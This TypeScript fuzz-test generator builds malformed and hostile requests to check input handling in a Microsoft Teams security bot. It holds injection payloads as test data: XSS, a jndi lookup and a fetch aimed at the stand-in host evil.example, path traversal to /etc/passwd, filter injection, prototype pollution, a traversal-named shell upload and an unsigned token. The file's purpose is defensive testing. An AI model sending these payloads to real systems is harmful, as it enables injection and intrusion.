/**
 * Generated malformed and hostile requests to `POST /api/messages`, for the fuzz test: activities with missing and
 * wrong-typed fields, 1 MB strings, odd Unicode, Markdown/HTML/mention injection in text and in card `data`, unknown
 * activity types and invoke names, bogus verbs and device ids, and raw bodies that are not activities at all.
 *
 * Everything is drawn from a seeded PRNG, so a failing run repeats with the same seed. No request is a valid click
 * on a real device: device ids are never 40 lowercase hexadecimal characters, so nothing may reach Defender's write
 * endpoints.
 */
import { ANALYST, BOT, CHANNEL_ID, TEAM_ID, TENANT_ID } from './activities';

/** A small, fast, seedable PRNG (mulberry32). */
export class Prng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
}

/** One request the fuzzer sends. */
export interface HostileRequest {
  /** What it is, for failure messages. */
  label: string;
  method: string;
  headers: Record<string, string>;
  body: string;
  /** The activity type sent, when the body is an activity. */
  activityType?: unknown;
}

/** The marker every injection carries: if it shows up unescaped in anything the bot sends, escaping failed. */
export const EVIL_HOST = 'evil.example';

const ONE_MB = 1024 * 1024;

/** Strings that break naive code: injection, odd Unicode, sizes, look-alike commands. */
function hostileString(r: Prng, allowHuge: boolean): string {
  const pool: (() => string)[] = [
    () => '',
    () => ' ',
    () => 'help',
    () => '  HeLp   ',
    () => '\u202Ehelp',
    () => 'he\u200Blp\u2060',
    () => '\u202Escan nimda.exe\u202C',
    () => '\uD800',
    () => 'abc\uDC00def',
    () => '\uDBFF\uDFFF\uFFFE\uFFFF',
    () => '😀🔥💣👩‍👩‍👧‍👦🏳️‍🌈'.repeat(1 + r.int(200)),
    () => 'Z̴̡̛̮̤̩͓̩a̶̢̛̻̦l̷̨̞g̵̞̈o̸̧̗',
    () => 'مرحبا עברית \u200F\u200E',
    () => '\u0000\u0001\u0007\u001b[31mred\u001b[0m',
    () => '\r\n\r\n\t',
    () => `[click me](https://${EVIL_HOST}/phish)`,
    () => `![pixel](https://${EVIL_HOST}/x.png)`,
    () => `<a href="https://${EVIL_HOST}">x</a>`,
    () => '<script>alert(1)</script>',
    () => `<img src=x onerror="fetch('https://${EVIL_HOST}')">`,
    () => '<at>Everyone</at>',
    () => `<at id="0">${BOT.name}</at> <at>Attacker</at> scan ../x`,
    () => '&lt;at&gt;General&lt;/at&gt;',
    () => '**bold** _it_ ~~s~~ `code` # heading\n> quote\n- item',
    () => `{{DATE(2024-01-01T00:00:00Z, SHORT)}} \${jndi:ldap://${EVIL_HOST}/a}`,
    () => `javascript:alert(1) www.${EVIL_HOST} mailto:a@${EVIL_HOST}`,
    () => '../../etc/passwd',
    () => '..%2F..%2Fapi%2Fmachines',
    () => "x' or 1 eq 1 or 'a",
    () => 'scan ../x',
    () => 'scan ../../api/machines/abc/isolate',
    () => `scan <at>x</at> full`,
    () => `scan ${'A'.repeat(300)}`,
    () => "scan pc' or startswith(computerDnsName,'",
    () => 'subscribe daily at 99:99',
    () => 'subscribe weekly at 07:30',
    () => 'unsubscribe monthly',
    () => 'show incidents critical',
    () => 'show audit',
    () => 'x'.repeat(5000),
    () => String.fromCharCode(...Array.from({ length: 64 }, () => r.int(0x10000))),
  ];
  if (allowHuge && r.chance(0.5)) {
    return r.pick([
      () => 'A'.repeat(ONE_MB),
      () => `help ${'\u200B'.repeat(ONE_MB / 2)}`,
      () => `[x](https://${EVIL_HOST}/)`.repeat(ONE_MB / 32),
      () => '😀'.repeat(ONE_MB / 4),
    ])();
  }
  return r.pick(pool)();
}

/** A value of some other type than the field expects. */
function wrongValue(r: Prng, allowHuge: boolean): unknown {
  return r.pick<() => unknown>([
    () => null,
    () => 0,
    () => -1,
    () => 1e308,
    () => true,
    () => [],
    () => {},
    () => [1, 'two', { three: 3 }],
    () => ({ constructor: { prototype: { polluted: true } } }),
    () => JSON.parse('{"__proto__": {"polluted": true}}'),
    () => hostileString(r, allowHuge),
    () => ({ id: hostileString(r, false) }),
  ])();
}

/** Device ids that are never valid (40 lowercase hex) but look close. */
function badDeviceId(r: Prng): unknown {
  return r.pick<() => unknown>([
    () => '../x',
    () => '../../api/machines',
    () => '..%2Fx',
    () => '0'.repeat(39),
    () => '0'.repeat(41),
    () => 'A'.repeat(40),
    () => `${'a'.repeat(39)}g`,
    () => `${'b'.repeat(40)}/isolate`,
    () => ` ${'c'.repeat(40)}`,
    () => `${'d'.repeat(40)}\n`,
    () => `${'e'.repeat(20)}\u200B${'e'.repeat(20)}`,
    () => `<at>${'f'.repeat(36)}</at>`,
    () => 42,
    () => null,
    () => ['1'.repeat(40)],
    () => ({ id: '2'.repeat(40) }),
    () => 'x'.repeat(100_000),
  ])();
}

const REAL_VERBS = ['scan', 'investigate', 'requestIsolation', 'requestRelease', 'approve', 'reject', 'showDevice'];
const BOGUS_VERBS: unknown[] = [
  'runAntiVirusScan',
  'isolate',
  'SCAN',
  'scan ',
  ' scan',
  'scan\u200B',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '',
  42,
  null,
  ['scan'],
  { verb: 'scan' },
  'x'.repeat(10_000),
];

/** Card `data` for a real verb that must not pass its schema, or hostile data for any verb. */
function hostileData(r: Prng, verb: unknown, allowHuge: boolean): unknown {
  const injected = () => hostileString(r, false);
  switch (r.int(8)) {
    case 0:
      return { deviceId: badDeviceId(r), scanType: r.pick(['Quick', 'Full', 'Deep', 1, null]) };
    case 1:
      return { deviceId: badDeviceId(r), isolationType: r.pick(['Full', 'Selective', '<at>x</at>']) };
    case 2:
      return { requestId: r.pick(['../x', 'ABCDEFGHIJ', 'a', 'x'.repeat(41), 7, null, injected()]) };
    case 3:
      // A well-formed scan with one extra field: `.strict()` schemas refuse it.
      return { deviceId: badDeviceId(r), scanType: 'Quick', comment: injected(), msteams: { type: 'task/fetch' } };
    case 4:
      return wrongValue(r, allowHuge);
    case 5: {
      // Deeply nested data.
      let deep: unknown = { deviceId: badDeviceId(r) };
      for (let i = 0; i < 200 + r.int(2000); i++) deep = { deep };
      return deep;
    }
    case 6:
      return {
        action: verb,
        deviceId: badDeviceId(r),
        title: injected(),
        text: injected(),
        url: `https://${EVIL_HOST}`,
      };
    default:
      return injected();
  }
}

/** A Teams channel base (possibly in a thread), or a personal chat. */
function baseActivity(r: Prng, serviceUrl: string): Record<string, any> {
  const channel = r.chance(0.6);
  const threadId = `${1700000000000 + r.int(1e9)}`;
  return {
    channelId: 'msteams',
    serviceUrl,
    id: `fuzz-${r.int(1e9)}`,
    timestamp: new Date().toISOString(),
    from: { id: ANALYST.id, name: ANALYST.name, aadObjectId: ANALYST.aadObjectId },
    recipient: { ...BOT },
    conversation: channel
      ? { id: `${CHANNEL_ID};messageid=${threadId}`, conversationType: 'channel', isGroup: true, tenantId: TENANT_ID }
      : { id: `a:1fuzz${r.int(1000)}`, conversationType: 'personal', tenantId: TENANT_ID },
    channelData: channel
      ? {
          teamsChannelId: CHANNEL_ID,
          teamsTeamId: TEAM_ID,
          channel: { id: CHANNEL_ID, name: 'Security' },
          team: { id: TEAM_ID, name: 'Contoso IT' },
          tenant: { id: TENANT_ID },
        }
      : { tenant: { id: TENANT_ID } },
    locale: 'en-US',
  };
}

const FIELD_PATHS = [
  'type',
  'id',
  'channelId',
  'serviceUrl',
  'from',
  'from.id',
  'from.name',
  'from.aadObjectId',
  'recipient',
  'recipient.id',
  'conversation',
  'conversation.id',
  'conversation.conversationType',
  'conversation.tenantId',
  'conversation.isGroup',
  'channelData',
  'channelData.tenant',
  'channelData.tenant.id',
  'channelData.team',
  'channelData.team.id',
  'channelData.channel',
  'channelData.channel.id',
  'channelData.eventType',
  'text',
  'textFormat',
  'entities',
  'attachments',
  'value',
  'name',
  'replyToId',
  'locale',
  'timestamp',
  'localTimestamp',
  'membersAdded',
  'membersRemoved',
  'action',
  'deliveryMode',
];

function setPath(target: Record<string, any>, path: string, value: unknown, remove: boolean): void {
  const keys = path.split('.');
  let node: any = target;
  for (const key of keys.slice(0, -1)) {
    if (!node || typeof node !== 'object') return;
    node = node[key];
  }
  if (!node || typeof node !== 'object') return;
  const last = keys[keys.length - 1];
  if (remove) delete node[last];
  else node[last] = value;
}

/** Applies 1-4 random field mutations: removals and wrong-typed or hostile values. */
function mutate(r: Prng, activity: Record<string, any>, allowHuge: boolean): string[] {
  const notes: string[] = [];
  const n = 1 + r.int(4);
  for (let i = 0; i < n; i++) {
    const path = r.pick(FIELD_PATHS);
    if (r.chance(0.35)) {
      setPath(activity, path, undefined, true);
      notes.push(`-${path}`);
    } else {
      const value = r.chance(0.5) ? wrongValue(r, allowHuge) : hostileString(r, allowHuge);
      setPath(activity, path, value, false);
      notes.push(`${path}=${typeof value}`);
    }
  }
  return notes;
}

function hostileEntities(r: Prng): unknown {
  return r.pick<() => unknown>([
    () => [{ type: 'mention', text: '<at>Everyone</at>', mentioned: { id: '29:everyone', name: 'Everyone' } }],
    () => [{ type: 'mention', text: `<at>${BOT.name}</at>`, mentioned: { id: BOT.id, name: `<at>${BOT.name}</at>` } }],
    () => [{ type: 'mention', mentioned: null }, { type: 42 }, null, 'x'],
    () => Array.from({ length: 2000 }, () => ({ type: 'mention', text: '<at>x</at>', mentioned: { id: BOT.id } })),
    () => 'not an array',
    () => [{ type: 'clientInfo', locale: hostileString(r, false), timezone: '../../etc/localtime' }],
  ])();
}

/** A message activity with hostile text and random damage. */
function hostileMessage(r: Prng, serviceUrl: string, allowHuge: boolean): HostileRequest {
  const activity = baseActivity(r, serviceUrl);
  activity.type = 'message';
  const mention = r.chance(0.7) ? `<at>${BOT.name}</at> ` : '';
  activity.text = `${mention}${hostileString(r, allowHuge)}`;
  activity.textFormat = r.pick(['plain', 'markdown', 'xml']);
  if (mention) activity.entities = [{ type: 'mention', text: `<at>${BOT.name}</at>`, mentioned: { ...BOT } }];
  if (r.chance(0.2)) activity.entities = hostileEntities(r);
  if (r.chance(0.15)) activity.value = hostileData(r, 'submit', false);
  if (r.chance(0.1))
    activity.attachments = [{ contentType: 'text/html', content: `<a href="https://${EVIL_HOST}">x</a>` }];
  if (r.chance(0.05)) activity.deliveryMode = 'expectReplies';
  const notes = r.chance(0.6) ? mutate(r, activity, false) : [];
  return json(`message ${notes.join(' ')}`, activity);
}

/** An `adaptiveCard/action` invoke (or another invoke name) with a bogus verb or data. */
function hostileInvoke(r: Prng, serviceUrl: string, allowHuge: boolean): HostileRequest {
  const activity = baseActivity(r, serviceUrl);
  activity.type = 'invoke';
  activity.name = r.chance(0.8)
    ? 'adaptiveCard/action'
    : r.pick([
        'task/fetch',
        'task/submit',
        'composeExtension/query',
        'composeExtension/submitAction',
        'signin/verifyState',
        'fileConsent/invoke',
        'actionableMessage/executeAction',
        'config/fetch',
        'message/submitAction',
        'handoff/action',
        'application/search',
        'adaptiveCard/action ',
        'ADAPTIVECARD/ACTION',
        '',
        hostileString(r, false),
      ]);
  activity.replyToId = r.chance(0.8) ? `1700000000${r.int(1e6)}` : wrongValue(r, false);
  const verb = r.chance(0.5) ? r.pick(REAL_VERBS) : r.pick(BOGUS_VERBS);
  const actionType = r.chance(0.85)
    ? 'Action.Execute'
    : r.pick(['Action.Submit', 'Action.OpenUrl', 'action.execute', null, 7]);
  activity.value = r.pick<() => unknown>([
    () => ({ action: { type: actionType, verb, data: hostileData(r, verb, allowHuge) }, trigger: 'manual' }),
    () => ({ action: { type: actionType, verb, data: hostileData(r, verb, false) }, trigger: 'automatic' }),
    () => ({ action: { type: actionType, verb } }),
    () => ({ action: { type: actionType, data: { deviceId: badDeviceId(r) } } }),
    () => ({ action: hostileString(r, false) }),
    () => ({ action: null }),
    () => ({}),
    () => wrongValue(r, allowHuge),
  ])();
  const notes = r.chance(0.3) ? mutate(r, activity, false) : [];
  const label = `invoke ${String(activity.name).slice(0, 40)} verb=${String(JSON.stringify(verb)).slice(0, 30)} ${notes.join(' ')}`;
  return json(label, activity);
}

/** Other activity types: known ones Watchstander ignores, install/removal with damage, and made-up ones. */
function otherActivity(r: Prng, serviceUrl: string): HostileRequest {
  const activity = baseActivity(r, serviceUrl);
  activity.type = r.pick([
    'event',
    'typing',
    'endOfConversation',
    'messageReaction',
    'messageUpdate',
    'messageDelete',
    'deleteUserData',
    'trace',
    'handoff',
    'suggestion',
    'command',
    'commandResult',
    'contactRelationUpdate',
    'installationUpdate',
    'conversationUpdate',
    'MESSAGE',
    'message ',
    'invoke\u0000',
    hostileString(r, false).slice(0, 100) || 'x',
  ]);
  if (activity.type === 'conversationUpdate') {
    activity.membersAdded = r.pick<unknown>([
      [{ id: BOT.id }],
      [{ id: 42 }],
      'bot',
      [null],
      [{ id: BOT.id, name: '<at>x</at>' }],
    ]);
    if (r.chance(0.3)) activity.membersRemoved = [{ id: BOT.id }];
    // Installs into made-up conversations: they may welcome, never act.
    activity.conversation = { ...activity.conversation, id: `19:fuzz${r.int(50)}@thread.tacv2` };
  }
  if (activity.type === 'installationUpdate') {
    activity.action = r.pick(['add', 'remove', 'add-upgrade', 'remove-upgrade', 'explode', 42, null]);
    activity.conversation = { ...activity.conversation, id: `19:fuzz${r.int(50)}@thread.tacv2` };
  }
  if (activity.type === 'messageReaction') activity.reactionsAdded = [{ type: hostileString(r, false) }];
  if (activity.type === 'event') {
    activity.name = r.pick(['application/vnd.microsoft.meetingStart', 'tokens/response', hostileString(r, false)]);
    activity.value = wrongValue(r, false);
  }
  const notes = r.chance(0.4) ? mutate(r, activity, false) : [];
  return json(`type=${String(JSON.stringify(activity.type)).slice(0, 40)} ${notes.join(' ')}`, activity);
}

/** Bodies that are not activities, wrong content types and methods, oversized and deeply nested bodies. */
function rawRequest(r: Prng): HostileRequest {
  const jsonHeaders = { 'content-type': 'application/json' };
  const cases: (() => HostileRequest)[] = [
    () => raw('truncated JSON', 'POST', jsonHeaders, '{"type": "message", "text": '),
    () => raw('just a brace', 'POST', jsonHeaders, '{'),
    () => raw('null', 'POST', jsonHeaders, 'null'),
    () => raw('array', 'POST', jsonHeaders, '[{"type":"message"}]'),
    () => raw('string', 'POST', jsonHeaders, '"message"'),
    () => raw('number', 'POST', jsonHeaders, '42'),
    () => raw('empty body', 'POST', jsonHeaders, ''),
    () => raw('type number', 'POST', jsonHeaders, '{"type": 42}'),
    () => raw('type null', 'POST', jsonHeaders, '{"type": null}'),
    () => raw('type empty', 'POST', jsonHeaders, '{"type": ""}'),
    () => raw('bare message', 'POST', jsonHeaders, '{"type": "message"}'),
    () => raw('bare invoke', 'POST', jsonHeaders, '{"type": "invoke", "name": "adaptiveCard/action"}'),
    () =>
      raw(
        'proto body',
        'POST',
        jsonHeaders,
        '{"__proto__": {"type": "message"}, "constructor": {"prototype": {"x": 1}}}',
      ),
    () => raw('text/plain', 'POST', { 'content-type': 'text/plain' }, '{"type":"message","text":"help"}'),
    () => raw('form', 'POST', { 'content-type': 'application/x-www-form-urlencoded' }, 'type=message&text=help'),
    () => raw('xml', 'POST', { 'content-type': 'application/xml' }, '<activity type="message"/>'),
    () =>
      raw(
        'multipart upload',
        'POST',
        { 'content-type': 'multipart/form-data; boundary=fuzzboundary' },
        '--fuzzboundary\r\nContent-Disposition: form-data; name="type"\r\n\r\nmessage\r\n' +
          '--fuzzboundary\r\nContent-Disposition: form-data; name="file"; filename="../../evil.sh"\r\n' +
          'Content-Type: application/x-sh\r\n\r\n#!/bin/sh\necho pwned\r\n--fuzzboundary--\r\n',
      ),
    () => raw('no content type', 'POST', {}, '{"type":"message"}'),
    () => raw('bad charset', 'POST', { 'content-type': 'application/json; charset=utf-7' }, '{"type":"message"}'),
    () => raw('GET', 'GET', {}, ''),
    () => raw('PUT', 'PUT', jsonHeaders, '{"type":"message"}'),
    () => raw('DELETE', 'DELETE', {}, ''),
    () =>
      raw('deep array', 'POST', jsonHeaders, `{"type":"message","value":${'['.repeat(20_000)}${']'.repeat(20_000)}}`),
    () =>
      raw(
        'deep object',
        'POST',
        jsonHeaders,
        `{"type":"invoke","value":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`,
      ),
    () => raw('over 2 MB', 'POST', jsonHeaders, JSON.stringify({ type: 'message', text: 'x'.repeat(3 * ONE_MB) })),
    () => raw('invalid UTF-8', 'POST', jsonHeaders, '{"type":"message","text":"\udcff\ud800"}'),
    () =>
      raw(
        'bearer in local mode',
        'POST',
        { ...jsonHeaders, authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.' },
        '{"type":"message"}',
      ),
  ];
  return r.pick(cases)();
}

function raw(label: string, method: string, headers: Record<string, string>, body: string): HostileRequest {
  return { label: `raw ${label}`, method, headers, body };
}

function json(label: string, activity: Record<string, any>): HostileRequest {
  return {
    label,
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(activity),
    activityType: activity.type,
  };
}

/**
 * `count` hostile requests from `seed`: about 35% messages, 35% invokes, 15% other activity types, 15% raw bodies.
 * At most `hugeCount` of them carry a 1 MB string.
 */
export function hostileRequests(seed: number, count: number, serviceUrl: string, hugeCount = 24): HostileRequest[] {
  const r = new Prng(seed);
  const out: HostileRequest[] = [];
  let huge = 0;
  for (let i = 0; i < count; i++) {
    const allowHuge = huge < hugeCount && r.chance(hugeCount / count);
    const roll = r.next();
    const request =
      roll < 0.35
        ? hostileMessage(r, serviceUrl, allowHuge)
        : roll < 0.7
          ? hostileInvoke(r, serviceUrl, allowHuge)
          : roll < 0.85
            ? otherActivity(r, serviceUrl)
            : rawRequest(r);
    if (request.body.length > ONE_MB) huge++;
    out.push({ ...request, label: `#${i} ${request.label}` });
  }
  return out;
}
